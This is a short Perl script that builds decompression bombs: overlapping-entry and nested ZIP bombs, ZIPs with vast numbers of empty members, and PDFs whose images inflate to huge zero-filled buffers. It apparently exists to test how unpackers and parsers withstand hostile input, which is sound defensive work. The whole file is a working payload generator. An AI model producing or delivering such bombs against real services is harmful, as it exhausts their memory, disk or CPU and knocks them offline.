# SPDX-License-Identifier: Apache-2.0
# ZIPs made to harm: bombs.pl overlap COPIES ZEROS | nested LEVELS WIDTH | many MEMBERS > FILE.zip
#   overlap   many names of one packed member (one that unpacks to ZEROS bytes)
#   nested    LEVELS ZIPs inside each other, each holding the next one WIDTH times
#   many      as many empty members
# and bombs.pl pdf PICTURES ZEROS > FILE.pdf: pictures that each unpack to ZEROS bytes
use strict;
use warnings;
use Compress::Raw::Zlib;
use Compress::Zlib qw(crc32 compress);

binmode STDOUT;
my ($kind, @args) = @ARGV;

sub deflate {
	my ($bytes) = @_;
	my ($d) = Compress::Raw::Zlib::Deflate->new(-WindowBits => -15, -AppendOutput => 1, -Level => 9);
	my $out = '';
	$d->deflate($bytes, $out);
	$d->flush($out);
	return $out;
}

sub local_head { my ($name, $m) = @_; return pack('a4 v5 V3 v2', "PK\3\4", 20, 0, $m->{method}, 0, 33, $m->{crc}, $m->{packed},
	$m->{size}, length $name, 0) . $name }
sub entry { my ($name, $m, $at) = @_; return pack('a4 v6 V3 v5 V2', "PK\1\2", 20, 20, 0, $m->{method}, 0, 33, $m->{crc},
	$m->{packed}, $m->{size}, length $name, 0, 0, 0, 0, 0, $at) . $name }

sub finish { # local heads and data, the directory, how many
	my ($body, $directory, $n) = @_;
	my $at = length $body;
	my $end = pack('a4 Q< v v V V Q< Q< Q< Q<', "PK\6\6", 44, 45, 45, 0, 0, $n, $n, length $directory, $at)
	    . pack('a4 V Q< V', "PK\6\7", 0, $at + length $directory, 1);
	my $few = $n < 65535 ? $n : 65535;
	return $body . $directory . $end . pack('a4 v4 V2 v', "PK\5\6", 0, 0, $few, $few, length $directory, $at, 0);
}

sub packed { my ($bytes) = @_; my $d = deflate($bytes);
	return ({method => 8, crc => crc32($bytes), packed => length $d, size => length $bytes}, $d) }

sub copies { # of one member, COPIES names
	my ($copies, $bytes) = @_;
	my ($m, $data) = packed($bytes);
	my $body = local_head('0', $m) . $data;
	return finish($body, join('', map { entry($_, $m, 0) } 0 .. $copies - 1), $copies);
}

if ($kind eq 'overlap') {
	print copies($args[0], "\0" x $args[1]);
} elsif ($kind eq 'nested') {
	my $zip = copies($args[1], "\0" x 1000000);
	$zip = copies($args[1], $zip) for 2 .. $args[0];
	print $zip;
} elsif ($kind eq 'pdf') {
	my $zeros = compress("\0" x $args[1], 9);
	print "%PDF-1.5\n";
	printf "%d 0 obj\n<</Subtype/Image/Width 9999/Height 9999/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode/Length %d>>\n"
	    . "stream\n%s\nendstream\nendobj\n", $_, length $zeros, $zeros for 1 .. $args[0];
} else {
	my ($body, $directory) = ('', '');
	my $m = {method => 0, crc => 0, packed => 0, size => 0};
	for my $i (1 .. $args[0]) {
		$directory .= entry("f$i", $m, length $body);
		$body .= local_head("f$i", $m);
	}
	print finish($body, $directory, $args[0]);
}
